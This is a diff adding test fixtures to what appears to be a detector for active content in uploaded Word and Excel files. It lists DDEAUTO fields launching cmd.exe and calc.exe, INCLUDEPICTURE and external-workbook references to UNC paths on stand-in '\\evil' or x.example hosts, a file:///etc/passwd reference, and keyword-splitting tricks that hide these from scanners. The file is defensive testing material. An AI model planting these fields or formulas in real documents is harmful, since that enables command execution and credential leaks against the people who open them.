@@ -8,6 +8,8 @@ from tests.uploads.files import office
 MATHS = "http://schemas.openxmlformats.org/officeDocument/2006/math"
 SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 STRICT = "http://purl.oclc.org/ooxml/spreadsheetml/main"
+STRICT_WORD = "http://purl.oclc.org/ooxml/wordprocessingml/main"
+COMPATIBLE = "http://schemas.openxmlformats.org/markup-compatibility/2006"
 X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
 XM = "http://schemas.microsoft.com/office/excel/2006/main"
 LETTERS = "".join(map(chr, (0x44, 0x44, 0x45)))
@@ -49,6 +51,49 @@ def simple_field(code):
     return f'<w:p><w:fldSimple w:instr="{code}"><w:r/></w:fldSimple></w:p>'
 
 
+X = 'xmlns:x="urn:x"'
+
+
+def alternate(choice, fallback=None):
+    """What Word takes one of; without a fallback, it may take none."""
+    last = "" if fallback is None else f"<mc:Fallback>{fallback}</mc:Fallback>"
+    return (
+        f'<mc:AlternateContent xmlns:mc="{COMPATIBLE}"><mc:Choice Requires="wps">'
+        f"{choice}</mc:Choice>{last}</mc:AlternateContent>"
+    )
+
+
+def text_box(inner):
+    """A text box as Word writes it: of today, and once more for older programs."""
+    content = f"<w:txbxContent>{inner}</w:txbxContent>"
+    return run(
+        alternate(
+            f'<w:drawing><s:wsp xmlns:s="urn:wps"><s:txbx>{content}</s:txbx></s:wsp>'
+            "</w:drawing>",
+            f'<w:pict><v:textbox xmlns:v="urn:schemas-microsoft-com:vml">{content}'
+            "</v:textbox></w:pict>",
+        )
+    )
+
+
+#: Addresses of files, as they stand in codes of fields.
+SERVERS = (
+    "\\\\\\\\192.168.1.5\\\\a.png",
+    "//x.example/a.png",
+    "file://x.example/a.png",
+    "file:///\\\\192.168.1.5\\a.png",
+    "file:////x.example/a.png",
+    "file:\\\\\\\\x.example\\a.png",
+    "FILE:/\\x.example/a.png",
+    "file:///%5C%5Cx.example/a.png",
+)
+DRIVES = (
+    "C:\\\\a.png",
+    "file:///C:\\Users\\a.png",
+    "file:///D:/a.png",
+    "a.png",
+    "../a/b.png",
+)
 CMD = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
 ACTIVE_FIELDS = {
     "whole": complex_field(CMD),
@@ -86,6 +131,45 @@ ACTIVE_FIELDS = {
     "text of a server": complex_field(' INCLUDETEXT "\\\\\\\\x.example\\\\a.docx" '),
     "picture of a server": complex_field(' INCLUDEPICTURE "\\\\\\\\x\\\\a.png" \\d '),
     "data": complex_field(' DATABASE \\d "C:\\\\a.mdb" '),
+    "decoy beside the code": f'<w:p><w:fldSimple {X} x:instr="PAGE" '
+    'w:instr="DDEAUTO c:\\\\cmd"/></w:p>',
+    "decoy beside the kind": f"<w:p>{char('begin')}{instr(' PAGE ')}"
+    + run(f'<w:fldChar {X} x:fldCharType="end" w:fldCharType="begin"/>')
+    + instr(CMD)
+    + "</w:p>",
+    "ended by another's element": f"<w:p>{char('begin')}"
+    + run(f'<x:fldChar {X} w:fldCharType="end"/>')
+    + f"{instr(CMD)}{char('end')}</w:p>",
+    "result by another's element": f"<w:p>{char('begin')}"
+    + run(f'<x:fldChar {X} w:fldCharType="separate"/>')
+    + f"{instr(CMD)}{char('end')}</w:p>",
+    "behind another's code": f"<w:p>{char('begin')}"
+    f"<x:instrText {X}>PAGE</x:instrText>{instr(CMD)}{char('end')}</w:p>",
+    "behind what may be left out": f"<w:p>{char('begin')}"
+    f"<x:a {X}>{instr(' PAGE ')}</x:a>{instr(CMD)}{char('end')}</w:p>",
+    "element in a code": complex_field(instr(f"DD<x:a {X}>X</x:a>EAUTO c:\\\\cmd")),
+    "in a choice": complex_field(alternate(instr(CMD), instr(" PAGE "))),
+    "in the other choice": complex_field(alternate(instr(" PAGE "), instr(CMD))),
+    "cut by choices": complex_field(" DD", alternate(instr("E"), instr("X")), "AUTO c"),
+    "cut by what may be left out": complex_field(
+        " DD", alternate(instr("X")), "EAUTO c"
+    ),
+    "ended in a choice": f"<w:p>{char('begin')}{instr(' PAGE ')}"
+    + alternate(char("end") + char("begin"), "")
+    + f"{instr(CMD)}{char('end')}</w:p>",
+    "begun in a choice": f"<w:p>{alternate(char('begin'), '')}{instr(CMD)}"
+    f"{char('end')}</w:p>",
+    "begun in a choice in a field": f"<w:p>{char('begin')}{instr(' PAGE ')}"
+    + alternate(char("begin"), "")
+    + f"{instr(CMD)}{alternate(char('end'), '')}{char('end')}</w:p>",
+    "whole in a choice": alternate(complex_field(CMD), complex_field(" PAGE ")),
+    "link never begun": f"<w:p>{instr(' PAGE ')}{instr(' LINK Excel a.xlsx ')}</w:p>",
+    "text never begun": f"<w:p>{instr(' INCLUDE')}{instr('TEXT a.docx ')}</w:p>",
+    **{
+        f"{name} of {server}": complex_field(f' {name} "{server}" ')
+        for name in ("INCLUDEPICTURE", "RD", "IMPORT", "HYPERLINK")
+        for server in SERVERS
+    },
 }
 HARMLESS_FIELDS = {
     "page": complex_field(" PAGE ") + simple_field(" NUMPAGES "),
@@ -96,6 +180,23 @@ HARMLESS_FIELDS = {
     "sum": complex_field("=", nested(" PAGE "), "+1"),
     "click here": complex_field(" MACROBUTTON NoMacro [Ghi tên] "),
     "picture of a page": complex_field(' INCLUDEPICTURE "http://x.example/a.png" '),
+    "box with a page": text_box(complex_field(" PAGE ")),
+    "box in a result": f"<w:p>{char('begin')}{instr(' REF a ')}{char('separate')}"
+    f"{text_box(complex_field(' PAGE '))}{char('end')}</w:p>",
+    "box in a condition": complex_field(
+        ' IF "a"="a" ', text_box(complex_field(" PAGE ")), ' "b" '
+    ),
+    "same in both choices": complex_field(alternate(instr(" PAGE "), instr(" PAGE "))),
+    "same code twice": f'<w:p><w:fldSimple {X} x:instr="PAGE" w:instr="PAGE"/></w:p>',
+    "another's elements": f'<x:fldChar {X} x:fldCharType="end"/>'
+    f"<x:instrText {X}>PAGE</x:instrText>",
+    "link never begun": f"<w:p>{instr(' HYPERLINK http://x/link/a ')}</w:p>",
+    "code in a formula": complex_field(f"<m:oMath>{instr(' QUOTE ')}</m:oMath>"),
+    **{
+        f"{name} of {drive}": complex_field(f' {name} "{drive}" ')
+        for name in ("INCLUDEPICTURE", "RD", "HYPERLINK")
+        for drive in DRIVES
+    },
     "date": simple_field(" DATE \\@ &quot;dd/MM/yyyy&quot; "),
     "words in the text": "<w:p><w:r><w:t>DDEAUTO cmd|'/c calc'!A1</w:t></w:r></w:p>",
     "fraction": "<w:p><m:oMath><m:f><m:fPr/><m:num><m:r><m:t>cmd|'/c'!A</m:t></m:r>"
@@ -154,6 +255,14 @@ ACTIVE_FORMULAS = (
     "_xlfn.IMAGE(&quot;https://x.example/?&quot;&amp;A1)",
     "'C:\\[b.xlsx]S'!A1",
     "IMPORTXML(&quot;http://x&quot;,&quot;//a&quot;)",
+    'WEBSERVI<x:a xmlns:x="urn:x"><f>1</f></x:a>CE(&quot;http://e&quot;)',
+    'WEBSERVI<x:a xmlns:x="urn:x">JUNK</x:a>CE(&quot;http://e&quot;)',
+    'WEBSERVI<f xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main">1</f>CE(A1)',
+    "'a&quot;b'!A1+WEBSERVICE(&quot;http://e&quot;)",
+    "T['x]&amp;CALL(A1)&amp;T['y]",
+    "[b.xlsx]S!A1",
+    "'\\\\x.example\\b.xlsx'!Tên",
+    "'C:\\a.b\\c'!A1",
 )
 HARMLESS_FORMULAS = (
     "SUM(A1:A3)",
@@ -165,6 +274,12 @@ HARMLESS_FORMULAS = (
     "HYPERLINK(&quot;#'Tháng 1'!A1&quot;,A1)",
     "'O''Brien'!A1+'A|B'!A1",
     "SUMPRODUCT(--(A1:A3&gt;0))",
+    "'Image(1)'!A1+'Run(2)'!B2+'Call(a)'!C3",
+    "SUM(T['#1],T['#2])",
+    "SUM(T[['#1]:['#2]])",
+    "SUM('Tháng 1:Tháng 3'!A1)",
+    "[0]!Tên",
+    "A1&amp;&quot;it's&quot;&amp;B1&amp;&quot;'#1&quot;",
     "-5",
 )
 CHOICES = (
@@ -304,6 +419,15 @@ RUN = (
     '＋ＨＹＰＥＲＬＩＮＫ（"x"）',
     "=rundll32|'URL.dll,OpenURL calc.exe'!A",
     '=IF(1,importdata("x"),0)',
+    "='\\\\evil\\s\\[b.xlsx]S'!A1",
+    "='\\\\evil\\s\\b.xlsx'!Ten",
+    "='file:///etc/passwd'#$passwd.A1",
+    "=[b.xlsx]S!A1",
+    "=1+[b.xlsx]S!$A$1",
+    "=\"it's\"&'\\\\evil\\[b.xlsx]S'!A1",
+    "- anh A's\n='\\\\evil\\[b.xlsx]S'!A1",
+    "=IMAGE(A1)",
+    "=DDE(A1;A2;A3)",
 )
 PLAIN = (
     "-5",
@@ -317,4 +441,14 @@ PLAIN = (
     "'=cmd|'/c calc'!A1",
     "- xem ảnh (image), gọi (call)",
     "WEBSERVICE(1)",
+    "- Important (xem phụ lục)",
+    "- Gọi call(1)",
+    "- Image(1).jpg kèm theo",
+    "- Register(2), run( 3 )",
+    "-DDE (x)",
+    "- Cuber (a)",
+    "- Phòng 'A'! Tầng 'B'#2",
+    "='Tháng 1'!A1/2+'Tháng 2'!B1",
+    "- [Mật] Gửi! Xem [1]",
+    "anh A's='\\\\evil\\[b.xlsx]S'!A1",
 )
